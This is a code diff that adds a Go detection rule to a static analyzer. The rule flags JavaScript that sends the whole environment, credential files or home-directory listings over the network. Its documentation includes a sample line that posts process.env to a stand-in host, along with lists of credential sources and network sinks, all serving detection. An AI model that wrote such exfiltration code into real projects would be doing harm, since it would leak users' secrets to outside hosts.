@@ -1,0 +1,255 @@
+package rules
+
+import (
+	"fmt"
+	"sort"
+	"strings"
+
+	"github.com/dop251/goja/ast"
+
+	"github.com/skillvet/skillvet/analyzer"
+	"github.com/skillvet/skillvet/intel"
+)
+
+// JSExfiltration reports JavaScript that sends secrets over the network.
+var JSExfiltration = register(&analyzer.Rule{
+	ID:       "SV201",
+	Name:     "js-secret-exfiltration",
+	Title:    "JavaScript sends the environment or credential files over the network",
+	Severity: Critical,
+	Category: analyzer.CatExfiltration,
+	Tags:     []string{"security", "CWE-200", "CWE-522"},
+	Inputs:   analyzer.InJS,
+	Doc: `Data flows, within one JavaScript or TypeScript file, from a secret source to a
+network sink.
+
+Sources: the **whole** environment (` + "`process.env`" + ` itself, ` + "`JSON.stringify(process.env)`" + `, spread,
+` + "`Object.entries/keys/values`" + `, for-in), credential files (SSH keys, cloud and CLI tokens,
+` + "`.npmrc`" + `, ` + "`.env`" + `, browser and wallet stores — paths built with ` + "`os.homedir()`" + ` and
+` + "`path.join`" + ` are folded), and listings of the home directory. Single named variables
+(` + "`process.env.OPENAI_API_KEY`" + `) are tracked by name.
+
+Sinks: ` + "`fetch`" + `, ` + "`http(s).request/get`" + ` and their ` + "`write/end`" + `, axios, got, node-fetch, ` + "`net`/`tls`" + `
+sockets, WebSocket ` + "`send`" + `, ` + "`dgram`" + `, and DNS lookups with data in the name.
+
+- **critical**: the whole environment, a credential file or a home listing reaches a
+  sink; or a named key is sent to a paste site, tunnel, request catcher or raw IP;
+- **medium**: a named key goes to a host that is not its vendor's (` + "`OPENAI_API_KEY`" + ` to
+  a non-OpenAI host) or over plain HTTP;
+- nothing: a named key sent to its own vendor, a well-known API host or an allowlisted
+  host over HTTPS — that is ordinary API use.
+
+**Fix:** send only the variable the API needs, to the API that issued it.
+
+Bad:
+
+` + "```js" + `
+fetch('https://hook.example.net/c', { method: 'POST', body: JSON.stringify(process.env) });
+` + "```" + `
+
+Good:
+
+` + "```js" + `
+fetch('https://api.openai.com/v1/models', {
+  headers: { Authorization: ` + "`Bearer ${process.env.OPENAI_API_KEY}`" + ` } });
+` + "```",
+	Run: runJSExfiltration,
+})
+
+// jsSecrets is what flows into one sink.
+type jsSecrets struct {
+	wholeEnv bool
+	credFile string
+	homeList bool
+	keys     map[string]bool
+}
+
+func (s *jsSecrets) bad() string {
+	switch {
+	case s.wholeEnv:
+		return "the whole environment"
+	case s.credFile != "":
+		return s.credFile + " (credential file)"
+	case s.homeList:
+		return "a listing of the home directory"
+	}
+	return ""
+}
+
+// collectSecrets follows e back to its sources.
+func (v *jsView) collectSecrets(e ast.Expression, s *jsSecrets) {
+	v.in.Reach(e, func(x ast.Expression) bool {
+		switch x.(type) {
+		case *ast.DotExpression, *ast.BracketExpression, *ast.Identifier:
+			r := v.in.Resolve(x)
+			if r == "process.env" {
+				s.wholeEnv = true
+				return false
+			}
+			if k, ok := strings.CutPrefix(r, "process.env."); ok {
+				s.keys[k] = true
+				return false
+			}
+			if b, ok := x.(*ast.BracketExpression); ok && v.in.Resolve(b.Left) == "process.env" {
+				if _, ok := v.in.Str(b.Member); !ok {
+					s.wholeEnv = true // process.env[k] over computed keys
+				}
+				return false
+			}
+		case *ast.CallExpression:
+			c := x.(*ast.CallExpression)
+			if label, ok := v.credRead(c); ok && s.credFile == "" {
+				s.credFile = label
+			}
+			if v.homeWalk(c) {
+				s.homeList = true
+			}
+		}
+		return true
+	})
+}
+
+// sinkCalls finds network sinks: the call, the data arguments, and the call
+// that opened the connection (for destination).
+type jsSinkUse struct {
+	at   ast.Node
+	data []ast.Expression
+	open *ast.CallExpression
+	kind string
+	host ast.Expression // destination given at send time (dgram)
+}
+
+func (v *jsView) sinks() []jsSinkUse {
+	var out []jsSinkUse
+	opener := func(e ast.Expression) (*ast.CallExpression, string) {
+		var oc *ast.CallExpression
+		var kind string
+		v.in.Reach(e, func(x ast.Expression) bool {
+			if oc != nil {
+				return false
+			}
+			switch x := x.(type) {
+			case *ast.CallExpression:
+				if k := jsIsNetCall(v.callee(x)); k != "" {
+					oc, kind = x, k
+					return false
+				}
+			case *ast.NewExpression:
+				if k := jsIsNetCall(jsNormMod(v.in.Resolve(x.Callee))); k != "" {
+					oc = &ast.CallExpression{Callee: x.Callee, ArgumentList: x.ArgumentList, LeftParenthesis: x.LeftParenthesis, RightParenthesis: x.RightParenthesis}
+					kind = k
+					return false
+				}
+			}
+			return true
+		})
+		return oc, kind
+	}
+	for _, c := range v.in.Calls() {
+		callee := v.callee(c)
+		if k := jsIsNetCall(callee); k != "" {
+			out = append(out, jsSinkUse{at: c, data: c.ArgumentList, open: c, kind: k})
+			continue
+		}
+		dot, ok := c.Callee.(*ast.DotExpression)
+		if !ok || len(c.ArgumentList) == 0 {
+			continue
+		}
+		switch dot.Identifier.Name.String() {
+		case "write", "end", "send", "emit", "post", "put", "patch":
+			if oc, kind := opener(dot.Left); oc != nil {
+				su := jsSinkUse{at: c, data: c.ArgumentList, open: oc, kind: kind}
+				if kind == "module:dgram.createSocket" && len(c.ArgumentList) > 2 {
+					// socket.send(msg, [offset, length,] port, address)
+					su.data = c.ArgumentList[:1]
+					su.host = c.ArgumentList[len(c.ArgumentList)-1]
+					if _, fn := su.host.(*ast.ArrowFunctionLiteral); fn {
+						su.host = c.ArgumentList[len(c.ArgumentList)-2]
+					}
+				}
+				out = append(out, su)
+			}
+		}
+	}
+	for _, n := range v.in.News() {
+		callee := jsNormMod(v.in.Resolve(n.Callee))
+		if k := jsIsNetCall(callee); k != "" {
+			oc := &ast.CallExpression{Callee: n.Callee, ArgumentList: n.ArgumentList, LeftParenthesis: n.LeftParenthesis, RightParenthesis: n.RightParenthesis}
+			out = append(out, jsSinkUse{at: n, data: n.ArgumentList, open: oc, kind: k})
+		}
+	}
+	return out
+}
+
+func runJSExfiltration(p *analyzer.Pass) error {
+	v := jsOf(p)
+	if v == nil {
+		return nil
+	}
+	for _, s := range v.sinks() {
+		if err := v.p.Context().Err(); err != nil {
+			return err
+		}
+		sec := &jsSecrets{keys: map[string]bool{}}
+		for _, d := range s.data {
+			v.collectSecrets(d, sec)
+		}
+		dst := v.dest(s.open, v.callee(s.open))
+		if s.host != nil {
+			if h, ok := v.in.Str(s.host); ok {
+				dst = v.hostDest(h, false)
+			}
+		}
+		where := "a computed destination"
+		if dst.known {
+			where = dst.host
+			if dst.class != intel.HostUnknown {
+				where += " (" + dst.class.String() + ")"
+			}
+		}
+		if strings.HasPrefix(s.kind, "module:dns.") {
+			where = "a DNS lookup (data in the queried name)"
+		}
+		if what := sec.bad(); what != "" {
+			v.report(s.at, Critical, fmt.Sprintf("sends %s to %s", what, where))
+			continue
+		}
+		if len(sec.keys) == 0 {
+			continue
+		}
+		keys := make([]string, 0, len(sec.keys))
+		for k := range sec.keys {
+			keys = append(keys, k)
+		}
+		sort.Strings(keys)
+		if strings.HasPrefix(s.kind, "module:dns.") {
+			v.report(s.at, High, fmt.Sprintf("sends %s in %s", strings.Join(keys, ", "), where))
+			continue
+		}
+		if sev, why := v.gradeKeySend(keys, dst); sev > 0 {
+			v.report(s.at, sev, fmt.Sprintf("sends %s to %s%s", strings.Join(keys, ", "), where, why))
+		}
+	}
+	return nil
+}
+
+func (v *jsView) gradeKeySend(keys []string, dst jsDestination) (analyzer.Severity, string) {
+	if !dst.known {
+		return 0, ""
+	}
+	if dst.class.Suspicious() {
+		return Critical, ""
+	}
+	if dst.class == intel.HostLoopback || dst.class == intel.HostPrivate {
+		return 0, ""
+	}
+	for _, k := range keys {
+		if vd := intel.KeyVendor(k); vd != nil && !intel.HostMatchesVendor(dst.host, vd) && !v.p.Config.HostAllowed(dst.host) {
+			return Medium, fmt.Sprintf(", which is not the vendor the key %s belongs to", k)
+		}
+	}
+	if !dst.https && dst.url != "" {
+		return Medium, " over plain HTTP"
+	}
+	return 0, ""
+}
